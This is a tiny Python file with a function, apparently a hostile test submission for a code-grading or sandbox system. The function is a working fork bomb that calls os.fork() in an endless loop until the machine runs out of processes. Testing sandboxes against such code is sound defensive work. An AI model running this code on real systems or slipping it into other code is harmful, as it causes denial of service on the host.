"""Forks as long as it can."""
import os


def answer(n):
    while True:
        os.fork()
